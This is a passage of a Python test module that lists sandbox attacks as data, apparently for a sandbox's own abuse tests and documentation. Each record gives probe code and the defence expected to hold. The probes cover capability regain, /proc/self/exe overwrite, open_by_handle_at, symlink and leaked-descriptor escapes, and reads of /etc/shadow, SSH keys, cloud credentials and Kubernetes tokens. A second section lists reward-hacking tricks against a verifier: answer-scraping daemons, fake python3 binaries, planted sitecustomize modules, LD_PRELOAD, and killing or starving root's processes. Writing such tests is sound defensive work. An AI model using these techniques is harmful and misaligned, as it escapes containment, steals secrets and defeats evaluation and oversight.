        name="let others be killed when memory runs out (oom_score_adj)",
        kind=LIMITS,
        source="CAP_SYS_RESOURCE",
        holds="CAP_SYS_RESOURCE is gone; the supervisor's file belongs to nobody inside",
        code="""
def score(pid, value):
    with open('/proc/%s/oom_score_adj' % pid, 'w') as stream:
        stream.write(str(value))
tell(attempt(score, 'self', -1000), attempt(score, 1, 1000))
""",
        left_out={GVISOR: "nothing reads the scores of its processes: memory ends the sandbox as a whole"},
        control=AWAY,
    ),
    Attack(
        name="take processor time by priority (nice, real time, I/O class), and lock memory",
        kind=LIMITS,
        source="CAP_SYS_NICE, CAP_IPC_LOCK",
        holds="these capabilities are gone; RLIMIT_NICE, RTPRIO and MEMLOCK",
        code="""
tell(attempt(os.setpriority, os.PRIO_PROCESS, 0, -20),
     attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1)),
     attempt(call, 'ioprio_set', 1, 0, 1 << 13), attempt(call, 'mlockall', 3))
""",
        held=REFUSED | {"ENOMEM"},
        left_out={GVISOR: "priorities of its processes order nothing on the host"},
        control=AWAY,
    ),
    # -- privileges ---------------------------------------------------------------------------------------------------
    Attack(
        name="take capabilities back (capset, ambient, secure bits)",
        kind=PRIVILEGES,
        source="container checklists: capabilities",
        holds="they are gone from the bounding set; no new privileges",
        code="""
header, all_of_them = struct.pack('Ii', 0x20080522, 0), struct.pack('6I', *[0xffffffff] * 6)
tell(attempt(call, 'capset', header, all_of_them), attempt(call, 'prctl', 47, 2, 21, 0, 0),
     attempt(call, 'prctl', 28, 0, 0, 0, 0), attempt(call, 'prctl', 38, 0, 0, 0, 0))
""",
        held=REFUSED | {"EINVAL"},
        control=AWAY,
    ),
    Attack(
        name="give a program file capabilities",
        kind=PRIVILEGES,
        source="container checklists: CAP_SETFCAP",
        holds="CAP_SETFCAP is gone; no new privileges; nosuid mounts",
        code="""
path = '/tmp/caps-%d' % os.getpid()
open(path, 'w').close()
tell(attempt(os.setxattr, path, 'security.capability', struct.pack('<5I', 0x2000001, 0xffffffff, 0, 0xffffffff, 0)))
os.unlink(path)
""",
        held=REFUSED | {"EOPNOTSUPP", "ENOTSUP"},
        control=AWAY,
    ),
    Attack(
        name="map more ids into the sandbox, or become one that is not mapped",
        kind=PRIVILEGES,
        source="CVE-2018-18955, newuidmap",
        holds="a map is written once; ids outside of it do not exist",
        code="""
def put(path, text):
    with open(path, 'w') as stream:
        stream.write(text)
tell(attempt(put, '/proc/self/uid_map', '0 0 4294967295'), attempt(put, '/proc/self/gid_map', '0 0 4294967295'),
     attempt(put, '/proc/self/setgroups', 'allow'), attempt(os.setresuid, 70000, 70000, 70000),
     attempt(os.chown, '/tmp', 70000, 70000))
""",
        held=REFUSED | {"EINVAL"},
        left_out={GVISOR: "its ids are its own kernel's; those of the host see none of them"},
        control=AWAY,
    ),
    Attack(
        name="type into a terminal (TIOCSTI, TIOCLINUX)",
        kind=PRIVILEGES,
        source="CVE-2017-5226 (bubblewrap)",
        holds="seccomp; no terminal of the host is shown",
        code="""
import fcntl, pty
master, slave = pty.openpty()
def typed(request):
    os.setsid()
    fcntl.ioctl(slave, 0x540E, 0)
    fcntl.ioctl(slave, request, b'x')
in_child(lambda: typed(0x5412))
in_child(lambda: fcntl.ioctl(slave, 0x541C, b'x'))
""",
        held=REFUSED,
        other={GVISOR: frozenset({"ENOTTY", "EIO"})},
        control=AWAY,
    ),
    Attack(
        name="open the terminal of whoever runs the sandbox",
        kind=PRIVILEGES,
        source="su and sudo TTY hijacks",
        holds="a devpts of its own; programs lead sessions without a terminal",
        code="""
tell(attempt(opened, '/dev/tty', os.O_RDWR), attempt(opened, '/dev/console', os.O_RDWR),
     *(attempt(opened, '/dev/pts/%d' % number, os.O_RDWR) for number in range(4)))
""",
        held=CLOSED | {"ENXIO", "EIO"},
    ),
    # -- files --------------------------------------------------------------------------------------------------------
    Attack(
        name="open files of the host by their handles (shocker)",
        kind=FILES,
        source="shocker.c; CAP_DAC_READ_SEARCH",
        holds="seccomp, and CAP_DAC_READ_SEARCH is gone",
        code="""
def shock(mount):
    handle = bytes.fromhex(HOST['handle'])
    at = os.open(mount, os.O_RDONLY)
    found = call('open_by_handle_at', at, ctypes.create_string_buffer(handle, len(handle)), os.O_RDONLY)
    if os.read(found, 100).decode().strip() != HOST['token']:
        raise OSError(errno.ENOENT, 'another file')
tell(*{attempt(shock, one) for one in ('/', '/tmp', '/etc', '/usr', '/etc/hosts', os.path.dirname(HOST['secret']))})
""",
        held=NO_CALL | ABSENT,
        other={GVISOR: frozenset({"EBADF"})},
        control=AWAY,
    ),
    Attack(
        name="use descriptors and a working directory that were left open",
        kind=FILES,
        source="CVE-2024-21626 (runc, leaked working directory), CVE-2016-9962",
        holds="a sandbox closes all but its own descriptors before it runs anything; Landlock",
        code="""
def reach(place):
    with open(place + '/' + '../' * 40 + HOST['secret'].lstrip('/')) as stream:
        stream.read()
for one in [int(one) for one in os.listdir('/proc/self/fd')]:
    try:
        mode = os.fstat(one).st_mode
    except OSError:
        continue  # the listing's own
    if stat.S_ISDIR(mode) or stat.S_ISREG(mode) or stat.S_ISBLK(mode):
        tell('open_%d_%s' % (one, os.readlink('/proc/self/fd/%d' % one).replace(' ', '_')))
    tell(attempt(reach, '/proc/self/fd/%d' % one))
tell(attempt(reach, '/proc/self/cwd'), attempt(reach, '/proc/self/root'), attempt(reach, os.getcwd()),
     'at_home' if os.path.samestat(os.stat('/'), os.stat('/' + '../' * 40)) and os.getcwd()[0] == '/' else 'elsewhere')
""",
        held=ABSENT | REFUSED | {"at_home"},
        control=AWAY,
    ),
    Attack(
        name="overwrite the program that runs the sandbox (/proc/self/exe)",
        kind=FILES,
        source="CVE-2019-5736 (runc)",
        holds="the supervisor is not dumpable and is never executed inside; its program belongs to the host's root",
        code="""
def overwrite(path):
    kept = os.open(path, os.O_PATH)
    try:
        if os.path.samestat(os.fstat(kept), os.stat(os.readlink(path))):
            raise FileNotFoundError(errno.ENOENT, 'it is of the image')
        os.close(os.open('/proc/self/fd/%d' % kept, os.O_WRONLY))
    finally:
        os.close(kept)
end = time.monotonic() + HOST['race_s']
words = {attempt(overwrite, '/proc/1/exe')}
while time.monotonic() < end:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        words.add(attempt(overwrite, '/proc/%s/exe' % pid))
tell(*words)
""",
        held=ABSENT | REFUSED | {"ESRCH", "ETXTBSY"},
        left_out={GVISOR: "the runtime's processes are not among those inside"},
    ),
    Attack(
        name="follow links to the host: symbolic, by /proc, and by ..",
        kind=FILES,
        source="CVE-2018-15664, CVE-2021-30465 (symlink exchange)",
        holds="the root is a mount of its own, and the host's is gone",
        code="""
link = '/tmp/link-%d' % os.getpid()
for target in (HOST['secret'], '/proc/1/root' + HOST['secret'], '/proc/self/root' + HOST['secret'],
               '../' * 40 + HOST['secret'].lstrip('/'), '/proc/self/cwd/' + '../' * 40 + HOST['secret'].lstrip('/')):
    os.symlink(target, link)
    tell(attempt(opened, link, os.O_RDONLY), attempt(opened, target, os.O_RDONLY))
    os.unlink(link)
""",
        held=ABSENT | REFUSED,
        control=AWAY,
    ),
    Attack(
        name="make hard links to files of others, and across mounts",
        kind=FILES,
        source="hard-link tricks; protected_hardlinks",
        holds="files of the host lie behind other mounts; the file calls of the owner write through no second name",
        code="""
found = [one for one in ('/etc/ssl/certs', '/etc/ld.so.cache', '/etc/alternatives', '/dev/null') if os.path.exists(one)]
found += ['/proc/self/exe', '/proc/version']
name = '/tmp/hard-%d' % os.getpid()
for one in found:
    for follow in (True, False):
        tell(attempt(lambda: os.link(one, name, follow_symlinks=follow)))
        if os.path.lexists(name):
            os.unlink(name)
""",
        held=CLOSED | {"EXDEV", "EMLINK", "EINVAL"},
    ),
    Attack(
        name="write to files of root inside through a second name of one's own",
        kind=FILES,
        source="hard-link tricks; protected_hardlinks",
        holds="a hard link has the owner and the mode of its file",
        code="""
name = '/tmp/second-%d' % os.getpid()
for one in ('/etc/passwd', '/etc/hosts', '/root'):
    tell('root_already' if os.geteuid() == 0 else attempt(opened, one, os.O_WRONLY | os.O_APPEND))
    if attempt(os.link, one, name) == 'done':
        tell('root_already' if os.geteuid() == 0 else attempt(opened, name, os.O_WRONLY | os.O_APPEND))
        os.unlink(name)
""",
        held=REFUSED | {"root_already", "EISDIR"},
    ),
    Attack(
        name="change the host's configuration that is shown (/etc/ssl/certs, ld.so.cache)",
        kind=FILES,
        source="writable bind mounts",
        holds="read-only mounts; the owners are nobody inside",
        code="""
found = [one for one in ('/etc/ssl/certs', '/etc/ld.so.cache', '/etc/alternatives') if os.path.exists(one)]
for one in found:
    tell(attempt(os.chmod, one, 0o777), attempt(os.chown, one, 0, 0), attempt(os.utime, one),
         attempt(os.rename, one, one + '.old'))
    if os.path.isdir(one):
        tell(attempt(opened, one + '/evil', os.O_WRONLY | os.O_CREAT), attempt(os.rmdir, one))
    else:
        tell(attempt(opened, one, os.O_WRONLY), attempt(os.unlink, one), attempt(os.truncate, one, 0))
tell('looked')
""",
        held=CLOSED | {"EBUSY", "EXDEV", "looked"},
    ),
    Attack(
        name="write below the host's directories (/usr, /bin)",
        kind=FILES,
        source="shared images",
        holds="an overlay takes what is written, or the owners are nobody inside",
        code="""
place = '/usr/local/' + HOST['mark']
tell(attempt(os.mkdir, place), attempt(opened, '/usr/bin/' + HOST['mark'], os.O_WRONLY | os.O_CREAT))
""",
        held=CLOSED | {"done", "EEXIST"},
    ),
    Attack(
        name="mark files for the overlay itself (redirects, whiteouts, opaque directories)",
        kind=FILES,
        source="CVE-2023-32629 (overlay attributes)",
        holds="the overlay hides its own attributes; CAP_SYS_ADMIN is gone",
        code="""
path = '/tmp/over-%d' % os.getpid()
os.mkdir(path)
tell(attempt(os.setxattr, path, 'trusted.overlay.redirect', b'/../..' + HOST['secret'].encode()),
     attempt(os.mknod, path + '/white', stat.S_IFCHR, os.makedev(0, 0)))
for name, value in (('redirect', b'/../..'), ('opaque', b'y'), ('metacopy', b''), ('origin', b'x')):
    attempt(os.setxattr, '/usr', 'user.overlay.' + name, value)  # kept as a name of no meaning, if at all
    attempt(os.setxattr, path, 'user.overlay.' + name, value)
tell(attempt(os.stat, '/usr' + HOST['secret']), attempt(os.stat, path + HOST['secret']))
if not os.path.exists('/usr/bin/env'):
    tell('hidden')
""",
        held=CLOSED | {"EOPNOTSUPP", "ENODATA"},
        left_out={GVISOR: "there is no overlay inside"},
    ),
    Attack(
        name="read secrets and configuration of the host",
        kind=FILES,
        source="container checklists: mounted host paths",
        holds="an own root; of /etc seven entries without secrets",
        code="""
tell(*{attempt(opened, one, os.O_RDONLY) for one in
       (HOST['secret'], '/etc/shadow', '/etc/machine-id', '/root/.ssh/id_rsa', '/root/.aws/credentials', '/boot/grub',
        '/var/log/syslog', '/var/run/secrets/kubernetes.io/serviceaccount/token')})
""",
        held=CLOSED,
        control=BARE,
    ),
    # -- names --------------------------------------------------------------------------------------------------------
    Attack(
        name="set the clock (settimeofday, clock_settime, adjtimex, clock_adjtime)",
        kind=NAMES,
        source="container checklists: CAP_SYS_TIME",
        holds="seccomp, and CAP_SYS_TIME is gone",
        code="""
def tuned(name, *first):
    words = ctypes.create_string_buffer(208)
    call('adjtimex', words)
    struct.pack_into('I', words, 0, 0x4000)  # ADJ_TICK, to what it is
    call(name, *first, words)
tell(attempt(tuned, 'adjtimex'), attempt(tuned, 'clock_adjtime', 0))
if HOST['may_harm']:
    tell(attempt(call, 'settimeofday', struct.pack('qq', 1, 0), 0),
         attempt(call, 'clock_settime', 0, struct.pack('qq', 1, 0)))
""",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="rename the host (sethostname, setdomainname)",
        kind=NAMES,
        source="container checklists: CAP_SYS_ADMIN",
        holds="a UTS namespace of its own, and seccomp",
        code="""
tell(attempt(call, 'sethostname', b'evil', 4), attempt(call, 'setdomainname', b'evil', 4),
     attempt(write_back, '/proc/sys/kernel/hostname'), attempt(write_back, '/proc/sys/kernel/domainname'))
""",
        held=NO_CALL | CLOSED,
        other={GVISOR: frozenset({"EIO"})},
        control=AWAY,
    ),
)

# -- the verifier -----------------------------------------------------------------------------------------------------

VERIFIER = "The verifier"

# What each of these prints is of no interest: the verdict is. They know where the verifier lies and what it prints, and
# run as a user who is not root; as root inside what they do works, which the tests show too.
VERIFIER_ATTACKS: tuple[Attack, ...] = (
    Attack(
        name="leave a daemon that looks for the expected answer, and writes where the verifier writes",
        kind=VERIFIER,
        source="reward hacking: background processes",
        holds="what is root's cannot be read, written or signalled by a user; a snapshot holds no processes",
        code="""
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 3)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for pid in filter(str.isdigit, os.listdir('/proc')):
            for name in ('cmdline', 'environ', 'fd/0', 'fd/3', 'mem'):
                try:
                    with open('/proc/%s/%s' % (pid, name), 'rb') as stream:
                        text = stream.read(100000)
                except OSError:
                    continue
                at = text.find(b'expected-')
                if at >= 0 and pid != str(os.getpid()):
                    with open('/workspace/answer', 'wb') as stream:
                        stream.write(text[at:at + 41])
            for name in ('fd/1', 'fd/2'):
                try:
                    with open('/proc/%s/%s' % (pid, name), 'wb', buffering=0) as stream:
                        stream.write(b'right')
                except OSError:
                    continue
            if pid not in ('1', str(os.getpid())):
                attempt(os.kill, int(pid), 9)
        for place in ('/root/verify.py', '/root'):
            attempt(lambda: open(place, 'w').write('print(\\'right\\')'))
    os._exit(0)
tell('planted')
""",
    ),
    Attack(
        name="replace python3, sh and other programs, on the PATH and beside it",
        kind=VERIFIER,
        source="reward hacking: replaced binaries, PATH",
        holds="only root may write on the PATH; the environment of a call is the owner's",
        code="""
home = os.path.expanduser('~')
lie = '#!/bin/sh\\necho right\\n'
for directory in [*os.environ['PATH'].split(':'), home, home + '/bin', home + '/.local/bin', '/workspace', '/tmp']:
    attempt(os.makedirs, directory)
    for name in ('python3', 'python', 'python3.11', 'sh', 'env', 'cat'):
        path = directory + '/' + name
        if attempt(os.unlink, path) in ('done', 'ENOENT') and attempt(lambda: open(path, 'w').write(lie)) == 'done':
            os.chmod(path, 0o755)
for name in ('.profile', '.bashrc', '.bash_profile', '.pam_environment'):
    attempt(lambda: open(home + '/' + name, 'w').write('PATH=/workspace:$PATH'))
tell('planted')
""",
    ),
    Attack(
        name="plant Python modules (sitecustomize, usercustomize, .pth, names of the standard library)",
        kind=VERIFIER,
        source="reward hacking: sitecustomize, conftest",
        holds="only root may write where root's Python looks; python3 -I looks nowhere else",
        code="""
import site
home = os.path.expanduser('~')
lie = 'import os; os.write(1, b"right"); os._exit(0)'
places = [*site.getsitepackages(), site.getusersitepackages(), *sys.path[1:], '/workspace', home, '/tmp',
          '/usr/lib/python3/dist-packages', '/usr/local/lib/python3.11/dist-packages']
for place in places:
    attempt(os.makedirs, place)
    for name in ('sitecustomize.py', 'usercustomize.py', 'json.py', 'struct.py', 'hashlib.py', 'conftest.py'):
        if not os.path.exists(place + '/' + name) or 'custom' in name:
            attempt(os.unlink, place + '/' + name)
            attempt(lambda: open(place + '/' + name, 'w').write(lie))
    attempt(lambda: open(place + '/a.pth', 'w').write(lie))
tell('planted')
""",
    ),
    Attack(
        name="have libraries loaded into every program (LD_PRELOAD, ld.so.preload, /etc/environment)",
        kind=VERIFIER,
        source="reward hacking: LD_PRELOAD",
        holds="only root may write there; the environment of a call is the owner's",
        code="""
for path, text in (('/etc/ld.so.preload', '/workspace/evil.so'), ('/etc/environment', 'LD_PRELOAD=/workspace/evil.so'),
                   ('/etc/profile.d/evil.sh', 'export LD_PRELOAD=/workspace/evil.so'),
                   ('/etc/ld.so.conf', '/workspace')):
    attempt(os.makedirs, os.path.dirname(path))
    attempt(lambda: open(path, 'w').write(text))
attempt(lambda: open('/workspace/evil.so', 'w').write('x'))
tell('planted')
""",
    ),
    Attack(
        name="a pipe in place of the answer",
        kind=VERIFIER,
        source="reward hacking: a verifier that hangs",
        holds="file calls open no pipe; a call ends at its timeout",
        code="attempt(os.unlink, '/workspace/answer'); os.mkfifo('/workspace/answer'); tell('planted')",
    ),
    Attack(
        name="a link in place of the answer: to the verifier, to a device, to itself",
        kind=VERIFIER,
        source="reward hacking: the expected answer read through a link",
        holds="the verifier reads what is there, and a program is no answer; file calls read no devices",
        code="""
attempt(os.unlink, '/workspace/answer')
os.symlink('/root/verify.py', '/workspace/answer')
os.symlink('/dev/zero', '/workspace/output')
tell('planted')
""",
    ),
    Attack(
        name="a directory, or a file of great size, in place of the answer",
        kind=VERIFIER,
        source="reward hacking: a verifier that runs out of memory",
        holds="file calls have a bound and read files alone",
        code="""
attempt(os.unlink, '/workspace/answer')
with open('/workspace/answer', 'wb') as stream:
    attempt(stream.truncate, 30 << 20)
tell('planted')
""",
    ),
    Attack(
        name="kill, stop, trace and starve what root runs",
        kind=VERIFIER,
        source="reward hacking: the verifier killed is no verdict",
        holds="a user may not signal root's processes",
        code="""
for pid in [int(one) for one in os.listdir('/proc') if one.isdigit()]:
    if pid != os.getpid():
        for number in (19, 9):
            attempt(os.kill, pid, number)
        attempt(call, 'ptrace', 16, pid, 0, 0)
        attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
attempt(os.kill, -1, 9)
tell('planted')
""",
    ),
    Attack(
        name="use all processes up",
        kind=VERIFIER,
        source="reward hacking: no verdict is no failure",
        holds="a call that cannot start says SandboxExhausted; a snapshot holds no processes",
        code="""
import signal
try:
    while True:
        if os.fork() == 0:
            os.setsid()
            os.closerange(0, 3)
            signal.pause()
except OSError:
    tell('planted')
""",
    ),
    Attack(
        name="use all space and inodes up",
        kind=VERIFIER,
        source="reward hacking: no verdict is no failure",
        holds="a write that has no room says SandboxExhausted; a restored sandbox has some room",
        code="""
try:
    with open('/tmp/big', 'wb', buffering=0) as stream:
        while True:
            stream.write(bytes(1 << 16))
except OSError:
    pass
try:
    for number in range(100000):
        os.mknod('/tmp/%d' % number)
except OSError:
    tell('planted')
""",
    ),
)

# -- attacks with a test of their own ---------------------------------------------------------------------------------

BOMBS, OWNER = "Bombs", "The owner's own calls"

ELSEWHERE: dict[str, tuple[str, str, str]] = {
    "test_an_inode_bomb_ends_at_the_cap": (BOMBS, "inodes", "one file system in memory with a bound"),
    "test_a_disk_bomb_ends_at_the_cap_wherever_it_writes": (BOMBS, "disk, wherever it may write", "the same"),
    "test_a_fork_bomb_ends_at_the_cap_and_all_of_it_goes_with_the_sandbox": (
        BOMBS, "forks", "RLIMIT_NPROC in the user namespace, and a group's bound where there is one"),
    "test_while_processes_are_used_up_calls_say_so_and_files_still_answer": (
        BOMBS, "no process left for the owner", "file calls need none; others raise SandboxExhausted"),
    "test_a_memory_bomb_is_killed_and_the_agent_is_not": (BOMBS, "memory of one process", "a group, or RLIMIT_AS"),
    "test_a_memory_bomb_of_many_processes_and_files_is_bounded_as_a_whole": (
        BOMBS, "memory of many processes and files", "a group; as a plain user without groups each process alone"),
    "test_memory_that_no_process_has_mapped_is_bounded_too": (
        BOMBS,
        "memory that no process has mapped (memfd_create)",
        "a group; nothing without one",
    ),
    "test_without_cgroups_the_memory_of_each_process_is_bounded": (BOMBS, "memory, without groups", "RLIMIT_AS"),
    "test_a_busy_loop_gets_its_share_of_a_processor_and_no_more": (BOMBS, "busy loops", "a group's share"),
    "test_a_process_that_uses_up_its_processor_seconds_is_killed": (BOMBS, "processor seconds", "RLIMIT_CPU"),
    "test_watchers_and_terminals_end_at_their_bounds": (
        BOMBS, "inotify instances and terminals", "bounds of the user namespace and of devpts"),
    "test_a_daemon_that_keeps_the_pipes_open_does_not_keep_the_call_waiting": (
        OWNER, "a daemon that keeps a call's pipes open", "the call ends with its program"),
    "test_a_timeout_reaches_descendants_that_left_the_group": (
        OWNER, "descendants that leave the process group", "the whole tree is killed"),
    "test_orphans_are_reaped": (PROCESSES, "orphans and zombies", "the supervisor reaps"),
    "test_the_agent_cannot_be_bounded_or_starved": (
        LIMITS, "bound or starve the supervisor (prlimit, priorities, affinity)", "seccomp"),
    "test_what_pretends_to_be_the_fork_server_ends_nothing_but_its_own_jobs": (
        VERIFIER, "a program in the place of the fork-server that lies", "what it says is believed of its jobs alone"),
    "test_a_fork_server_that_is_killed_is_replaced": (VERIFIER, "kill the fork-server", "another one starts"),
    "test_command_lines_of_the_machinery_tell_nothing_of_the_host": (
        PROCESSES, "read paths of the host from command lines", "they are overwritten"),
    "test_root_inside_has_seven_capabilities_no_new_privileges_and_a_filter": (
        PRIVILEGES, "use capabilities of root inside", "seven are left, over the sandbox's own"),
    "test_setuid_programs_give_nothing": (PRIVILEGES, "setuid programs", "no new privileges; nosuid mounts"),
    "test_files_of_the_host_are_not_there": (FILES, "look for the host's files", "an own root; /sys is empty"),
    "test_links_lead_nowhere_but_into_the_sandbox": (
        OWNER, "links that the owner's file calls follow", "they end inside, as the supervisor lives there"),
    "test_a_pipe_in_place_of_a_file_does_not_hang_the_agent": (
        OWNER, "pipes and devices for the owner's file calls", "opened without waiting, and refused"),
    "test_what_is_written_for_a_user_follows_none_of_their_links_to_what_only_root_may_write": (
        OWNER, "links and second names where the owner writes for a user", "written with that user's rights"),
    "test_there_is_no_network_but_the_loopback": (NETWORK, "any network but the loopback", "an own network namespace"),
    "test_a_machine_that_isolates_less_than_the_minimum_starts_nothing": (
        OWNER, "a machine that isolates less than asked for", "nothing is started"),
    "test_every_protection_of_this_backend_but_the_cgroups_holds_for_everybody": (
        OWNER, "protections that are claimed and not in place", "the supervisor reports what it did"),
}  # fmt: skip
"""Tests of `test_sandbox_abuse.py`: heading, what is tried, what holds."""


def page() -> str:
    """Return the tables of docs/internals/sandbox-attacks.md."""
    rows: dict[str, list[str]] = {}
    for one in (*ATTACKS, *VERIFIER_ATTACKS):
        left = f". Left out with gVisor: {one.left_out[GVISOR]}" if GVISOR in one.left_out else ""
        rows.setdefault(one.kind, []).append(f"| {one.name} | {one.source} | {one.holds}{left} |")
    for kind, name, holds in ELSEWHERE.values():
        rows.setdefault(kind, []).append(f"| {name} | - | {holds} |")
    tables = (f"### {kind}\n\n| Attack | Known from | What holds |\n|---|---|---|\n" + "\n".join(found)
              for kind, found in rows.items())  # fmt: skip
    return "\n\n".join(tables) + "\n"
